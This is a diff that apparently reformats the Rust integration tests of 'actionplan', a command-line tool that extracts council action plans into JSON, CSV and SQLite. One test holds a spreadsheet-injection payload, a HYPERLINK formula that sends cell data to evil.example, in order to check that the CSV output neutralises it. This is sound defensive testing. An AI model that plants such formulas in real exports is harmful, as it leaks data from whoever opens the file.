@@ -64,13 +64,19 @@ fn csv_cells_that_start_a_formula_are_quoted_unless_raw() {
     let out = actionplan(&["extract", s(&plan), "-f", "csv"]);
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     let csv = text(&out.stdout);
-    assert!(csv.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""Click"")""#), "{csv}");
+    assert!(
+        csv.contains(r#""'=HYPERLINK(""http://evil.example/?""&A1,""Click"")""#),
+        "{csv}"
+    );
     assert!(csv.contains(",'@Director of Finance,"), "{csv}");
     assert!(!csv.contains(",=HYPERLINK") && !csv.contains(",@Director"), "{csv}");
     // Text that merely contains the characters is left alone.
     assert!(csv.contains(",Write a plan for the council,"), "{csv}");
     let raw = text(&actionplan(&["extract", s(&plan), "-f", "csv", "--raw-csv"]).stdout);
-    assert!(raw.contains(r#""=HYPERLINK("#) && raw.contains(",@Director of Finance,"), "{raw}");
+    assert!(
+        raw.contains(r#""=HYPERLINK("#) && raw.contains(",@Director of Finance,"),
+        "{raw}"
+    );
     // JSON stays raw.
     let json = records(&actionplan(&["extract", s(&plan)]));
     assert!(json[0]["action"]["text"].as_str().unwrap().starts_with("=HYPERLINK("));
@@ -212,25 +218,36 @@ fn a_database_that_is_not_a_store_is_refused_untouched() {
     let db = dir.path().join("crm.sqlite");
     {
         let c = rusqlite::Connection::open(&db).unwrap();
-        c.execute_batch("CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT); INSERT INTO customers (name) VALUES ('x');")
-            .unwrap();
+        c.execute_batch(
+            "CREATE TABLE customers (id INTEGER PRIMARY KEY, name TEXT); INSERT INTO customers (name) VALUES ('x');",
+        )
+        .unwrap();
     }
     let before = std::fs::read(&db).unwrap();
     for cmd in ["export", "changes"] {
         let out = actionplan(&[cmd, "--db", s(&db)]);
         assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
         let err = stderr(&out);
-        assert!(err.contains("crm.sqlite") && err.contains("not an actionplan store"), "{err}");
+        assert!(
+            err.contains("crm.sqlite") && err.contains("not an actionplan store"),
+            "{err}"
+        );
         assert!(err.contains("customers"), "{err}");
     }
     let sources = dir.path().join("sources.toml");
-    std::fs::write(&sources, "[[source]]\ncouncil = \"X\"\nurl = \"http://127.0.0.1:9/x.html\"\n").unwrap();
+    std::fs::write(
+        &sources,
+        "[[source]]\ncouncil = \"X\"\nurl = \"http://127.0.0.1:9/x.html\"\n",
+    )
+    .unwrap();
     let out = actionplan(&["refresh", s(&sources), "--db", s(&db)]);
     assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
     assert!(stderr(&out).contains("not an actionplan store"), "{}", stderr(&out));
     assert_eq!(std::fs::read(&db).unwrap(), before, "no tables of ours added");
     let c = rusqlite::Connection::open(&db).unwrap();
-    let tables: i64 = c.query_row("SELECT count(*) FROM sqlite_master", [], |r| r.get(0)).unwrap();
+    let tables: i64 = c
+        .query_row("SELECT count(*) FROM sqlite_master", [], |r| r.get(0))
+        .unwrap();
     assert_eq!(tables, 1);
 }
 
@@ -257,10 +274,7 @@ fn standard_input_is_read_and_sniffed() {
     let tables: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
     assert!(!tables.as_array().unwrap().is_empty());
     let extracted = actionplan(&["extract", s(&fixture("harrow-2023/source.html"))]);
-    let out = with_stdin(
-        &["eval", s(&fixture("harrow-2023/gold.json")), "-"],
-        &extracted.stdout,
-    );
+    let out = with_stdin(&["eval", s(&fixture("harrow-2023/gold.json")), "-"], &extracted.stdout);
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     assert!(text(&out.stdout).contains("F1=1.00"), "{}", text(&out.stdout));
     // Nothing named and nothing piped (stdin is /dev/null): bad usage.
@@ -328,7 +342,9 @@ fn records_are_written_as_each_document_is_done() {
     // Let the run end whatever happened: feed the FIFO.
     std::fs::write(&fifo, HOSTILE_PLAN).unwrap();
     let status = child.wait().unwrap();
-    let first = first.expect("the first record arrives before the last input is read").unwrap();
+    let first = first
+        .expect("the first record arrives before the last input is read")
+        .unwrap();
     assert!(first.contains("harrow-2023/source.html"), "{first}");
     assert!(status.success());
 }
@@ -347,7 +363,11 @@ fn the_format_follows_the_output_name_or_is_refused() {
     let txt = dir.path().join("a.txt");
     let out = actionplan(&["extract", s(&good), "-o", s(&txt)]);
     assert_eq!(out.status.code(), Some(2));
-    assert!(stderr(&out).contains("a.txt") && stderr(&out).contains("-f"), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("a.txt") && stderr(&out).contains("-f"),
+        "{}",
+        stderr(&out)
+    );
     assert!(!txt.exists());
     let out = actionplan(&["extract", s(&good), "-o", s(&csv), "-f", "json"]);
     assert_eq!(out.status.code(), Some(2));
@@ -357,7 +377,9 @@ fn the_format_follows_the_output_name_or_is_refused() {
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     let out = actionplan(&["tables", s(&good), "-o", s(&dir.path().join("t.csv"))]);
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
-    assert!(std::fs::read_to_string(dir.path().join("t.csv")).unwrap().starts_with("#table,1"));
+    assert!(std::fs::read_to_string(dir.path().join("t.csv"))
+        .unwrap()
+        .starts_with("#table,1"));
     let out = actionplan(&["changes", "--db", "x.db", "-o", "c.json"]);
     assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
 }
@@ -373,12 +395,27 @@ fn messages_have_one_form_one_cause_and_colour_only_when_asked() {
     let out = actionplan(&["extract", s(&missing), s(&empty_plan)]);
     assert_eq!(out.status.code(), Some(1));
     let err = stderr(&out);
-    assert!(!err.contains("os error") && !err.contains("WARN") && !err.contains('\x1b'), "{err}");
-    assert!(err.contains(&format!("actionplan: {}: No such file or directory\n", missing.display())), "{err}");
-    assert!(err.contains(&format!("actionplan: {}: no actions found", empty_plan.display())), "{err}");
+    assert!(
+        !err.contains("os error") && !err.contains("WARN") && !err.contains('\x1b'),
+        "{err}"
+    );
+    assert!(
+        err.contains(&format!(
+            "actionplan: {}: No such file or directory\n",
+            missing.display()
+        )),
+        "{err}"
+    );
+    assert!(
+        err.contains(&format!("actionplan: {}: no actions found", empty_plan.display())),
+        "{err}"
+    );
     let out = actionplan(&["-q", "extract", s(&missing), s(&empty_plan)]);
     let err = stderr(&out);
-    assert!(err.contains("missing.txt") && !err.contains("no actions found"), "{err}");
+    assert!(
+        err.contains("missing.txt") && !err.contains("no actions found"),
+        "{err}"
+    );
     let out = actionplan(&["--color", "always", "extract", s(&empty_plan)]);
     assert!(stderr(&out).contains("\x1b["), "{}", stderr(&out));
     let out = actionplan(&["--color", "never", "extract", s(&empty_plan)]);
@@ -408,7 +445,10 @@ fn a_missing_input_is_exit_1_in_every_command() {
     }
     for cmd in ["extract", "model", "tables", "eval", "refresh", "changes", "export"] {
         let help = text(&actionplan(&[cmd, "--help"]).stdout);
-        assert!(help.contains("Exit codes:") && help.contains("2  bad usage"), "{cmd}: {help}");
+        assert!(
+            help.contains("Exit codes:") && help.contains("2  bad usage"),
+            "{cmd}: {help}"
+        );
     }
 }
 
@@ -444,7 +484,12 @@ fn model_and_tables_take_passwords_urls_outputs_and_pages() {
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     assert!(serde_json::from_slice::<serde_json::Value>(&std::fs::read(&model).unwrap()).is_ok());
     let all: serde_json::Value = serde_json::from_slice(&actionplan(&["tables", &url]).stdout).unwrap();
-    let pages: Vec<u64> = all.as_array().unwrap().iter().filter_map(|t| t["page"].as_u64()).collect();
+    let pages: Vec<u64> = all
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|t| t["page"].as_u64())
+        .collect();
     assert!(pages.iter().any(|&p| p > 1), "{pages:?}");
     let out = actionplan(&["tables", &url, "--pages", "1"]);
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
@@ -470,7 +515,10 @@ fn help_and_readme_say_what_is_true() {
         assert!(stderr(&out).contains(ext), "{ext}: {}", stderr(&out));
     }
     let readme = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md")).unwrap();
-    assert!(!readme.contains("`spec/deadlines.md`"), "the README points outside the repo");
+    assert!(
+        !readme.contains("`spec/deadlines.md`"),
+        "the README points outside the repo"
+    );
     for p in actionplan::sources::DEFAULT_LINK_PATTERNS {
         assert!(readme.contains(&format!("\"{p}\"")), "{p} missing from the README");
     }
@@ -516,7 +564,10 @@ fn csv_has_the_parts_of_a_multiple_deadline() {
     let out = actionplan(&["extract", s(&plan), "-f", "csv"]);
     let mut reader = csv::Reader::from_reader(out.stdout.as_slice());
     let headers = reader.headers().unwrap().clone();
-    let col = headers.iter().position(|h| h == "deadline_parts").expect("a deadline_parts column");
+    let col = headers
+        .iter()
+        .position(|h| h == "deadline_parts")
+        .expect("a deadline_parts column");
     let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
     assert_eq!(&rows[0][col], "2023-04-01..2023-06-30; 2024-04-01..2024-06-30");
     assert_eq!(&rows[1][col], "");
@@ -550,7 +601,11 @@ fn eval_picks_the_gold_document_out_of_many() {
         "3",
     ]);
     let report = text(&out.stdout);
-    assert_eq!(report.lines().filter(|l| l.starts_with("  spurious:")).count(), 3, "{report}");
+    assert_eq!(
+        report.lines().filter(|l| l.starts_with("  spurious:")).count(),
+        3,
+        "{report}"
+    );
     assert!(report.contains("more spurious"), "{report}");
 }
 
@@ -561,11 +616,22 @@ fn converter_markup_does_not_leak_into_records() {
     let recs = records(&actionplan(&["extract", s(&fixture("havering-2019/seed.txt"))]));
     let may = recs
         .iter()
-        .find(|r| r["deadline"]["raw"].as_str().is_some_and(|d| d.contains("May 2019 Cabinet")))
+        .find(|r| {
+            r["deadline"]["raw"]
+                .as_str()
+                .is_some_and(|d| d.contains("May 2019 Cabinet"))
+        })
         .expect("the Cabinet deadline");
     assert_eq!(may["deadline"]["raw"], "15th May 2019 Cabinet");
-    assert_eq!((may["deadline"]["start"].as_str(), may["deadline"]["end"].as_str()), (Some("2019-05-15"), Some("2019-05-15")));
-    for doc in ["havering-2019/seed.txt", "havering-2024-07/seed.txt", "havering-2024-07/source.html"] {
+    assert_eq!(
+        (may["deadline"]["start"].as_str(), may["deadline"]["end"].as_str()),
+        (Some("2019-05-15"), Some("2019-05-15"))
+    );
+    for doc in [
+        "havering-2019/seed.txt",
+        "havering-2024-07/seed.txt",
+        "havering-2024-07/source.html",
+    ] {
         let out = actionplan(&["extract", s(&fixture(doc))]);
         let json = text(&out.stdout);
         assert!(!json.contains("<sup") && !json.contains("</sup>"), "{doc}");
@@ -592,13 +658,20 @@ fn on_a_terminal(command: &str) -> Option<Vec<u8>> {
 #[cfg(unix)]
 #[test]
 fn verbose_lines_clear_the_bar_and_quiet_hides_it() {
-    let run = format!("{BIN} extract -v {} {} > /dev/null", s(&fixture("harrow-2023")), s(&fixture("havering-2019")));
+    let run = format!(
+        "{BIN} extract -v {} {} > /dev/null",
+        s(&fixture("harrow-2023")),
+        s(&fixture("havering-2019"))
+    );
     let Some(shown) = on_a_terminal(&run) else {
         eprintln!("skipped: no util-linux script to make a terminal");
         return;
     };
     let text = text(&shown);
-    assert!(text.contains('█') || text.contains('░'), "a bar on a terminal: {text:?}");
+    assert!(
+        text.contains('█') || text.contains('░'),
+        "a bar on a terminal: {text:?}"
+    );
     let lines: Vec<usize> = text.match_indices("actionplan:").map(|(i, _)| i).collect();
     assert!(lines.len() >= 12, "{text:?}");
     for i in lines {
@@ -650,10 +723,16 @@ fn completions_man_pages_filters_and_a_flat_view() {
         assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
         text(&out.stdout).lines().count()
     };
-    assert_eq!(changes(&["--run", "last", "--kind", "new", "--council", "Testshire"]), 2);
+    assert_eq!(
+        changes(&["--run", "last", "--kind", "new", "--council", "Testshire"]),
+        2
+    );
     assert_eq!(changes(&["--kind", "gone,changed"]), 0);
     assert_eq!(changes(&["--run", "2"]), 0);
-    assert_eq!(actionplan(&["changes", "--db", s(&db), "--run", "first"]).status.code(), Some(2));
+    assert_eq!(
+        actionplan(&["changes", "--db", s(&db), "--run", "first"]).status.code(),
+        Some(2)
+    );
     let c = rusqlite::Connection::open(&db).unwrap();
     let (council, lead, end): (String, String, Option<String>) = c
         .query_row(
@@ -662,5 +741,8 @@ fn completions_man_pages_filters_and_a_flat_view() {
             |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?)),
         )
         .unwrap();
-    assert_eq!((council.as_str(), lead.as_str(), end.as_deref()), ("Testshire", "Chief Executive", Some("2024-03-31")));
+    assert_eq!(
+        (council.as_str(), lead.as_str(), end.as_deref()),
+        ("Testshire", "Chief Executive", Some("2024-03-31"))
+    );
 }
